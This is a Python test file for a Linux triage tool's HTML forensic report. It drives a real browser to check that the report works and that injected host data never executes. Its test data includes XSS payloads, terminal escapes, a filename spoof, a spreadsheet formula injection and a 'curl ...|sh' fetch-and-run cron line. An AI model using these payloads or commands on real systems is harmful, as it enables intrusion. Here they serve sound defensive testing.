# Copyright (c) 2026, the csirt.linux_triage authors
# GNU General Public License v3.0-or-later (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""The report in a real browser: nothing of a host runs, and what a reader does works."""

from __future__ import annotations

import json
import os
import shutil
import time

import pytest

api = pytest.importorskip("playwright.sync_api", reason="the Python package playwright is not installed")

from ansible_collections.csirt.linux_triage.plugins.plugin_utils._analysis import _schema  # noqa: E402
from ansible_collections.csirt.linux_triage.plugins.plugin_utils._case import file_name  # noqa: E402
from ansible_collections.csirt.linux_triage.plugins.plugin_utils._report._html import write_report  # noqa: E402
from ansible_collections.csirt.linux_triage.tests.unit.plugins.plugin_utils.report_helpers import (  # noqa: E402
    RUN, event, finding, host, make_case, proof, ranking,
)

PROGRAM = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)
LAPTOP = {"width": 1366, "height": 768}
FINDINGS, EVENTS = 5_000, 50_000
RUNS = "window.ran=1;alert(1)"
HOSTILE = (
    f"<script>{RUNS}</script>", f"\"><img src=x onerror=\"{RUNS}\">", f"</script><script>{RUNS}</script>", "<!--<script>",
    f"javascript:{RUNS}", "\x1b[31mred\x1b]0;title\x07", "\u202egnp.exe\u200f\u200b", "nul\x00nul", "=cmd()|'/c calc'!A0",
    "\u2028\u2029",
    "a" * 100_000,
)


@pytest.fixture(scope="module")
def browser():
    if PROGRAM is None:
        pytest.skip("Chromium is not installed (on Debian: the package chromium)")
    with api.sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=PROGRAM, args=["--no-sandbox"] if os.geteuid() == 0 else [])
        yield browser
        browser.close()


class Visit:
    """A page that is open; at the end nothing must have run, failed or been asked for but the pages themselves."""

    def __init__(self, context):
        self.page = context.new_page()
        self.troubles = []
        self.page.on("console", lambda message: self.troubles.append(f"console: {message.text}"))
        self.page.on("pageerror", lambda error: self.troubles.append(f"error: {error}"))
        self.page.on("dialog", self._dialog)
        self.page.on("request", self._request)

    def _request(self, request):
        if not (request.is_navigation_request() and request.url.startswith("file:")):
            self.troubles.append(f"request: {request.url[:200]}")

    def _dialog(self, dialog):
        self.troubles.append(f"dialog: {dialog.message}")
        dialog.dismiss()

    def open(self, path, ready=True):
        self.page.goto(path.as_uri())
        if ready:
            self.page.wait_for_selector("html.ready")
        return self.page


@pytest.fixture
def visit(browser):
    context = browser.new_context(viewport=LAPTOP)
    context.grant_permissions(["clipboard-read", "clipboard-write"])
    visit = Visit(context)
    yield visit
    troubles = visit.troubles
    assert visit.page.evaluate("typeof window.ran") == "undefined"
    context.close()
    assert troubles == []


def report(folder, **tables):
    case = make_case(folder, **tables)
    index = write_report(case, case.folder)
    case.close()
    return index


@pytest.fixture(scope="module")
def fleet(tmp_path_factory):
    """Two hosts with something, one in order."""
    of_web01 = {"host": "web01", "run": RUN}
    return report(
        tmp_path_factory.mktemp("fleet"), hosts=[host(), host("db01"), host("app01", complete=False, missing=["50-file_listing"])],
        ranking=[ranking(), ranking("db01", 2), ranking("app01", 3, verdict="incomplete", lines=["What: nothing in what came home"])],
        findings=[
            finding("1"),
            finding("2", rule="cron", title="A cron line that fetches and runs", severity="high", attack=["T1053.003", "T1105"],
                    subject="/etc/cron.d/clean line 1", first_seen="2026-11-20 02:00:00",
                    evidence=json.dumps([proof(table="persistence", line=1)])),
            *(finding(f"many{number}", rule="many", title="Many of a kind", severity="low", attack=[], subject=f"thing {number}")
              for number in range(60)),
            finding("3", "db01", rule="rare_key", title="A key that no other host has", severity="medium", attack=["T1098.004"],
                    subject="SHA256:abc"),
        ],
        timeline=[
            *(event(f"2026-11-{day:02} {hour:02}:00:00", f"/srv/file-{day}-{hour}") for day in range(10, 25) for hour in range(24)),
            event("2026-11-20 01:02:03", "/var/www/html/x.php", time_desc="born"),
            event("2026-11-20 01:00:00", "login of mallory from 198.51.100.7", source="logins", path=None, user_name="mallory"),
            event("1985-10-26", "/old"),
        ],
        users=[{**of_web01, "user": f"user{number:03}", "uid": number, "shell": "/bin/sh" if number % 2 else None}
               for number in range(120)],
        persistence=[{**of_web01, "source_row": row, "mechanism": "cron", "command": "curl 203.0.113.9|sh", "path": f"/etc/cron.d/{name}"}
                     for row, name in enumerate(("fine", "clean"))],
        stack=[{"kind": "authorized_key", "kind_group": "debian 12", "value": "SHA256:abc", "hosts_with": 1, "hosts_of": 3,
                "host": "db01"}],
        items=[{"host": "app01", "run": RUN, "part": "20-accounts", "state": "denied", "path": "/root/x", "reason": "EACCES"}],
    )


def on_host(fleet, name="web01"):
    return fleet.parent / "hosts" / f"{name}.html"


def shown_rows(page, table):
    return page.locator(f"[data-table={table}] tbody tr")


def test_the_first_screen_of_the_fleet(visit, fleet):
    page = visit.open(fleet)
    assert page.locator("h1").inner_text() == "1 of 3 hosts: begin with web01"
    page.locator("h1 a").click()
    page.wait_for_selector("html.ready")
    for text in ("A web shell", "a script in the upload folder", "[root]/var/www/html/x.php", "2026-11-20T01:02:03Z", "cut it off"):
        box = page.get_by_text(text).first.bounding_box()
        assert box["y"] + box["height"] < LAPTOP["height"]


def test_nothing_is_wider_than_a_laptop(visit, fleet):
    for path in (fleet, on_host(fleet)):
        page = visit.open(path)
        assert page.evaluate("document.documentElement.scrollWidth") <= LAPTOP["width"]


def test_the_search_goes_through_everything(visit, fleet):
    page = visit.open(on_host(fleet))
    assert page.locator("nav a[href='#findings'] .count").inner_text() == "62"
    page.keyboard.press("/")
    page.keyboard.type("cron.d -missing")
    page.wait_for_selector("nav a.without")
    assert page.locator("nav a[href='#findings']").inner_text() == "Findings 1/62"
    assert page.locator("nav a[href='#persistence']").inner_text() == "Persistence 2/2"
    assert page.locator("article.group:visible").count() == 1
    page.keyboard.press("Escape")
    assert page.locator("nav a[href='#findings']").inner_text() == "Findings 62"
    assert page.locator("article.group:visible").count() == 3


def test_the_search_of_the_fleet_hides_hosts(visit, fleet):
    page = visit.open(fleet)
    page.locator("#search").fill("app01")
    page.wait_for_selector("nav a.without")
    assert page.locator("[data-block]:visible").count() == 1
    assert shown_rows(page, "items").count() == 1 and shown_rows(page, "stack").count() == 0
    page.locator("#search").fill("nowhere")
    page.wait_for_selector("text=No host fits.")


def test_findings_are_filtered_by_severity_and_technique(visit, fleet):
    page = visit.open(on_host(fleet))
    page.locator("button[data-toggle=low]").click()
    assert page.locator("article.group:visible").count() == 2
    page.locator("select.techniques").select_option("T1105")
    assert page.locator("article.group:visible h3").inner_text().strip() == "A cron line that fetches and runs"
    page.locator("button[data-toggle=high]").click()
    assert page.locator("text=No finding fits.").is_visible()


def test_long_groups_unfold(visit, fleet):
    page = visit.open(on_host(fleet))
    group = page.locator("article.group[data-severity=low]")
    assert group.locator("li").count() == 8
    group.locator("button.more").click()
    assert group.locator("li").count() == 60 and not group.locator("button.more").is_visible()


def test_a_link_to_a_folded_finding_shows_it(visit, fleet):
    page = visit.open(fleet)
    page.locator("[data-table=all_findings] input[type=search]").fill("thing 59")
    api.expect(shown_rows(page, "all_findings")).to_have_count(1)
    page.locator("[data-table=all_findings] tbody tr td a", has_text="open").click()
    page.wait_for_selector("html.ready")
    assert page.locator("#f-many59").is_visible()
    assert 0 <= page.locator("#f-many59").bounding_box()["y"] < LAPTOP["height"]


def test_references_are_copied(visit, fleet):
    page = visit.open(on_host(fleet))
    button = page.locator("#f-1 button.copy").first
    button.click()
    page.wait_for_selector("#f-1 button.copy:has-text('copied')")
    assert page.evaluate("navigator.clipboard.readText()") == f"web01/{RUN}/web01.tar.gz [root]/var/www/html/x.php:3"
    page.locator("#f-1 button.copy").nth(1).press("Enter")
    api.expect(page.locator("#f-1 button.copy").nth(1)).to_have_text("copied")
    assert page.evaluate("navigator.clipboard.readText()").startswith("tar -xzOf ")


def test_references_are_copied_without_the_clipboard_interface(visit, fleet):
    visit.page.add_init_script("Object.defineProperty(navigator, 'clipboard', {value: undefined})")
    page = visit.open(on_host(fleet))
    page.locator("#f-1 button.copy").first.click()
    page.wait_for_selector("#f-1 button.copy:has-text('copied')")


def test_tables_are_paged_sorted_and_filtered(visit, fleet):
    page = visit.open(on_host(fleet))
    table = page.locator("[data-table=users]")
    assert shown_rows(page, "users").count() == 50
    table.get_by_label("next rows").click()
    assert table.locator(".shown").inner_text() == "51–100 of 120"
    table.locator("th button", has_text="uid").click()
    table.locator("th button", has_text="uid").click()
    assert shown_rows(page, "users").first.inner_text().startswith("user119")
    assert table.locator("th[aria-sort=descending]").inner_text().startswith("uid")
    table.get_by_label("shell").select_option(label="/bin/sh (60)")
    table.locator("input[type=search]").fill("user11")
    api.expect(table.locator(".shown")).to_have_text("1–5 of 5 that fit, of 120")
    table.get_by_label("rows at a time").select_option("200")
    assert shown_rows(page, "users").count() == 5


def test_a_row_that_a_finding_is_about_leads_to_it(visit, fleet):
    page = visit.open(on_host(fleet))
    mark = page.locator("[data-table=persistence] a.severity")
    assert "/etc/cron.d/clean" in shown_rows(page, "persistence").first.inner_text()
    assert (mark.get_attribute("href"), mark.get_attribute("title")) == ("#f-2", "high: A cron line that fetches and runs")


def drag(page, begin, end):
    box = page.locator("svg.picture").bounding_box()
    page.locator("svg.picture").scroll_into_view_if_needed()
    box = page.locator("svg.picture").bounding_box()
    at = [box["x"] + 118 + (box["width"] - 118) * part for part in (begin, end)]
    page.mouse.move(at[0], box["y"] + 40)
    page.mouse.down()
    page.mouse.move(at[1], box["y"] + 60, steps=5)
    page.mouse.up()


def edges(page):
    return [page.get_by_label(f"{name}, UTC").input_value() for name in ("from", "to")]


def test_the_timeline_is_a_picture_that_zooms(visit, fleet):
    page = visit.open(on_host(fleet))
    table = page.locator("[data-table=timeline_rows]")
    begin = edges(page)
    assert begin[0] < "2026-11-20 01:02:03" and begin[1] == "2026-11-24 23:00:01"
    assert page.locator("svg.picture a").get_attribute("href") == "#f-1", "of two that are too near the worse one"
    labels = page.evaluate("[...document.querySelectorAll('svg.picture text.label')].map(label => label.lastChild.textContent)")
    assert sorted(labels) == ["files", "findings", "logins"]
    drag(page, 0.25, 0.5)
    zoomed = edges(page)
    assert begin[0] < zoomed[0] < zoomed[1] < begin[1]
    times = shown_rows(page, "timeline_rows").locator("td:first-child").all_inner_texts()
    assert times and all(zoomed[0] <= time <= zoomed[1] for time in times)
    table.get_by_role("button", name="back").click()
    assert edges(page) == begin
    table.get_by_role("button", name="everything").click()
    assert edges(page)[0] == "1985-10-25 23:59:59"
    assert "of 363" in table.locator(".shown").inner_text()
    page.locator("svg.picture").focus()
    page.keyboard.press("f")
    assert edges(page) == begin
    page.keyboard.press("+")
    page.keyboard.press("ArrowRight")
    assert edges(page)[0] > begin[0]


def test_the_timeline_takes_typed_times_and_filters(visit, fleet):
    page = visit.open(on_host(fleet))
    table = page.locator("[data-table=timeline_rows]")
    page.get_by_label("from, UTC").fill("2026-11-20")
    page.get_by_label("from, UTC").press("Enter")
    page.get_by_label("to, UTC").fill("2026-11-20 01:30")
    page.get_by_label("to, UTC").press("Enter")
    assert shown_rows(page, "timeline_rows").count() == 4
    table.get_by_label("source").select_option(label="logins (1)")
    assert shown_rows(page, "timeline_rows").count() == 1
    assert "mallory" in shown_rows(page, "timeline_rows").first.inner_text()
    assert page.locator("svg.picture").get_attribute("aria-label").startswith("1 events from 2026-11-20 00:00:00 to 2026-11-20 01:30:00")
    page.get_by_label("to, UTC").fill("yesterday")
    page.get_by_label("to, UTC").press("Enter")
    assert page.get_by_label("to, UTC").get_attribute("aria-invalid") == "true"


def test_without_a_script_the_verdict_and_the_findings_are_there(browser, fleet):
    context = browser.new_context(viewport=LAPTOP, java_script_enabled=False)
    page = context.new_page()
    page.goto(on_host(fleet).as_uri())
    assert page.locator("#f-1").is_visible() and page.locator("#f-many59").is_visible()
    assert page.get_by_text("cut it off").first.is_visible()
    assert not page.locator("button.copy").first.is_visible() and not page.locator("#search").is_visible()
    assert page.locator("#f-1 code").first.inner_text() == "[root]/var/www/html/x.php:3"
    assert page.get_by_text("These rows need JavaScript").first.is_visible()
    context.close()


def test_dark_and_light(visit, fleet):
    page = visit.open(on_host(fleet))
    colours = []
    for scheme in ("light", "dark"):
        page.emulate_media(color_scheme=scheme)
        colours.append(page.evaluate("getComputedStyle(document.body).backgroundColor"))
    assert colours[0] != colours[1]


def test_it_prints_black_on_white(visit, fleet):
    page = visit.open(on_host(fleet))
    page.emulate_media(media="print", color_scheme="dark")
    assert page.evaluate("getComputedStyle(document.body).backgroundColor") == "rgb(255, 255, 255)"
    assert page.evaluate("getComputedStyle(document.querySelector('#f-1 .subject')).color") == "rgb(0, 0, 0)"
    assert not page.locator("#search").is_visible() and not page.locator("button.copy").first.is_visible()
    assert page.locator("#f-1 code").first.is_visible()
    assert page.pdf(format="A4").startswith(b"%PDF")


def of_host(text):
    """Rows of a host of this name, with the text in every column of text of every table."""
    tables = {
        name: [{"host": text, "run": RUN, **{column.in_case: text for column in table.columns if column.kind in ("text", "any")}}]
        for name, table in _schema.tables().items() if table.made_by != "analysis"
    }
    return tables | {
        "hosts": [host(text, archive=text, os=text, kernel=text, kind=text, missing=[text], sha256=text)],
        "ranking": [ranking(text, verdict=text, lines=[text, f"Why: {text}"], weakened=json.dumps([text]),
                            parts=json.dumps([{"finding": text, "score": 1, "text": text}]))],
        "findings": [finding(text, text, rule=text, title=text, attack=[text], subject=text, summary=text, why=text, harmless=text,
                             next=text, evidence=json.dumps([proof(archive=text, member=text, path=text, table=text)]))],
        "stack": [{"kind": text, "kind_group": text, "value": text, "hosts_with": 1, "hosts_of": 2, "host": text}],
        "coverage": [{"host": text, "part": text, "state": text, "items": 1}],
        "load_problems": [{"host": text, "tbl": text, "problem": text, "n": 1}],
        "timeline": [event("2026-11-20", text, text, source=text, time_desc=text, user_name=text)],
    }


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    tables = {}
    for text in HOSTILE:
        for name, rows in of_host(text).items():
            tables.setdefault(name, []).extend(rows)
    return report(tmp_path_factory.mktemp("hostile"), **tables)


def nothing_came_in(page):
    assert page.locator("img, iframe, object, embed").count() == 0
    assert page.locator("script:not([type])").count() == 1
    assert page.evaluate("document.documentElement.scrollWidth") <= LAPTOP["width"]


def test_nothing_of_hosts_runs_in_the_page_of_the_fleet(visit, hostile):
    page = visit.open(hostile)
    nothing_came_in(page)
    assert page.locator("[data-block]").count() == len(HOSTILE)
    assert shown_rows(page, "stack").count() == len(HOSTILE)
    assert page.get_by_text(HOSTILE[0]).first.is_visible() and page.get_by_text("\\xe2\\x80\\xaegnp.exe").first.is_visible()
    page.locator("#search").fill("onerror")
    api.expect(page.locator("[data-block]:visible")).to_have_count(1)


@pytest.mark.parametrize("number", range(len(HOSTILE)), ids=lambda number: ascii(HOSTILE[number][:30]))
def test_nothing_of_a_host_runs_in_its_page(visit, hostile, number):
    page = visit.open(hostile.parent / "hosts" / f"{file_name(HOSTILE[number])}.html")
    nothing_came_in(page)
    assert page.locator("[data-table=users] tbody tr").count() == 1
    for button in page.locator("#findings button.copy").all():
        button.click()
    page.locator("#search").fill(HOSTILE[number][:20].replace("\0", ""))
    page.locator("[data-table=users] th button").first.click()
    page.pdf()


def test_thousands_of_rows(visit, tmp_path, record_property, capsys):
    """Figures are printed, not asserted: the machine may be busy."""
    case = make_case(tmp_path, hosts=[host()], ranking=[ranking()])
    case.connection.execute(f"""
        INSERT INTO findings
        SELECT 'f' || i, 'web01', '{RUN}', 'rule' || i % 50, 'Rule number ' || i % 50,
               ['critical', 'high', 'medium', 'low'][1 + i % 50 % 4], 1, ['T1505.003'], '/srv/www/file-' || i, 'was seen',
               'why', 'harmless', 'next', '[{json.dumps(proof())}]',
               TIMESTAMP_NS '2026-11-20 01:02:03'
        FROM range({FINDINGS}) t(i)
    """)
    case.connection.execute(f"""
        INSERT INTO timeline (host, run, time, source, time_desc, message, path)
        SELECT 'web01', '{RUN}', (TIMESTAMP '2026-10-20 00:00:00' + to_seconds(i * 61))::TIMESTAMP_NS,
               ['files', 'logins', 'history'][1 + i % 3], 'file: m.c.', '-rw-r--r-- 0 1234 /usr/share/doc/some-package/file-' || i,
               '/usr/share/doc/some-package/file-' || i
        FROM range({EVENTS}) t(i)
    """)
    begin = time.perf_counter()
    index = write_report(case, case.folder)
    figures = {"written": time.perf_counter() - begin, "MiB": on_host(index).stat().st_size / 2 ** 20}

    def measured(name, action):
        begin = time.perf_counter()
        action()
        page.evaluate("new Promise(done => requestAnimationFrame(() => setTimeout(done)))")
        figures[name] = time.perf_counter() - begin

    page = visit.page
    measured("opened", lambda: visit.open(on_host(index)))
    assert page.locator("article.group li").count() == 400, "8 of each of 50 groups"
    assert page.locator("nav a[href='#findings']").inner_text() == "Findings 5,000"
    measured("zoomed", lambda: drag(page, 0.4, 0.6))
    measured("searched", lambda: (page.locator("#search").fill("file-4242 -file-42420"),
                                  page.wait_for_selector("nav a:has-text('Findings 1/')")))
    api.expect(page.locator("nav a[href='#timeline']")).to_have_text("Timeline 10/50,000")
    measured("searched again", lambda: (page.locator("#search").fill("file-1"),
                                        page.wait_for_selector("nav a:has-text('Timeline 11,111/')")))
    measured("sorted", lambda: page.locator("[data-table=timeline_rows] th button", has_text="message").click())
    figures["elements"] = page.evaluate("document.querySelectorAll('*').length")
    for name, value in figures.items():
        record_property(name, value)
    with capsys.disabled():
        print(f"\n{FINDINGS} findings, {EVENTS} events:", ", ".join(f"{name} {value:.2f}" for name, value in figures.items()))
